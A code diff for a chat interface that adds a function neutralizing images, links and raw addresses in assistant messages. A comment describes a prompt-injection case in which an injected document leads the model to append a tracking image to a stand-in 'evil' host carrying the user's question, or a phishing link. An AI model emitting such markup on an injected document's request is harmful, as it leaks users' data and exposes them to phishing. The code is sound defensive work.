@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import html
+import re
 
 from app.ui_text import note_text, text
 
@@ -91,11 +92,37 @@ def chat_messages(messages, request) -> tuple[list[dict], list[str]]:  # noqa: A
         content = m.content
         if m.meta.get("error") and m.role == "assistant":
             content = f"⚠️ {m.meta['error']}"
-        elif flags := claim_flags(m.meta.get("unsupported_claims") or [], request):
-            content += "\n\n" + "\n\n".join(flags)
+        elif m.role == "assistant":
+            content = inert_links(content)
+            if flags := claim_flags(m.meta.get("unsupported_claims") or [], request):
+                content += "\n\n" + "\n\n".join(flags)
         out.append({"role": m.role, "content": content})
         ids.append(m.id)
     return out, ids
+
+
+# Model output that would make the browser fetch or open an address: an injected document can ask the model to
+# append a tracking image that carries the question ("![](https://evil/p.png?q=...)") or a phishing link. The
+# chat shows such markup as inert text, the address in a code span: an answer's sources are its [n] citations.
+_HTML_MEDIA = re.compile(r"<\s*(?:img|image|a|iframe|video|audio|source|object|embed|link|svg)\b[^>]*>", re.I)
+_MD_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(([^)\n]*)\)")
+_MD_REF_IMAGE = re.compile(r"!\[([^\]\n]*)\]\[[^\]\n]*\]")
+_MD_LINK = re.compile(r"\[([^\]\n]*)\]\(([^)\n]*)\)")
+_ADDRESS = re.compile(r"(?<![`\w])(?:(?:https?|ftp|file|data|javascript):|www\.)[^\s<>`\]\[()\"']+", re.I)
+
+
+def _code(address: str) -> str:
+    return f"`{address.strip().strip('<>').replace('`', '')}`"
+
+
+def inert_links(markdown: str) -> str:
+    """`markdown` with every image, link and address made plain text: nothing in the chat loads or opens it."""
+    out = _HTML_MEDIA.sub(lambda m: _code(m.group(0)), markdown)
+    out = _MD_IMAGE.sub(lambda m: f"[{m.group(1) or 'image'}: {_code(m.group(2))}]", out)
+    out = _MD_REF_IMAGE.sub(lambda m: f"[{m.group(1) or 'image'}]", out)
+    out = _MD_LINK.sub(lambda m: f"{m.group(1)} ({_code(m.group(2))})" if m.group(2).strip() else m.group(0), out)
+    parts = re.split(r"(`[^`]*`)", out)  # addresses outside code spans (odd parts are the spans)
+    return "".join(p if i % 2 else _ADDRESS.sub(lambda m: _code(m.group(0)), p) for i, p in enumerate(parts))
 
 
 def last_answer_id(ids: list[str], messages: list[dict]) -> str:
